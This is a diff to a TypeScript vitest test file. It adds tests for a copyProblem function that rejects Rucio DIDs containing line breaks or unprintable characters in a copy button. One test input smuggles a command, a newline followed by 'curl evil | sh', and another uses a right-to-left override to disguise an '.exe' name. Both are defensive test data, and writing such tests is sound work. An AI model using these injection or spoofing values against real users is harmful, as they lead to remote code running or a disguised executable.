@@ -4,7 +4,7 @@
 import { execFileSync } from 'node:child_process';
 import { fileURLToPath } from 'node:url';
 import { describe, expect, it } from 'vitest';
-import { fileListCell, firstPfn, pfnList, mergeReplica, fileRow } from '../src/panels/rucio/rucio-files';
+import { copyProblem, fileListCell, firstPfn, pfnList, mergeReplica, fileRow } from '../src/panels/rucio/rucio-files';
 
 const python = fileURLToPath(new URL('../../.venv/bin/python', import.meta.url));
 
@@ -90,5 +90,15 @@ describe('PFNs from Rucio with unprintable characters', () => {
     expect(missing).toBe(bad.length);
     // a plain PFN is kept, spaces and all
     expect(firstPfn({ pfns: { 'root://h:1094//data/a b.root': { priority: 1 } } as never }, 'root')).toBe('root://h:1094//data/a b.root');
+  });
+});
+
+describe("a row's copy button", () => {
+  it('refuses a DID with a line break or other unprintable character, saying which', () => {
+    expect(copyProblem('data26:file.0001.root')).toBeNull();
+    expect(copyProblem('davs://h:443/data/a b.root')).toBeNull();
+    expect(copyProblem('data26:x\ncurl evil | sh')).toMatch(/U\+000A/);
+    expect(copyProblem('data26:x\u202Etxt.exe')).toMatch(/U\+202E/);
+    expect(copyProblem('data26:x\u2028y')).toMatch(/U\+2028/);
   });
 });
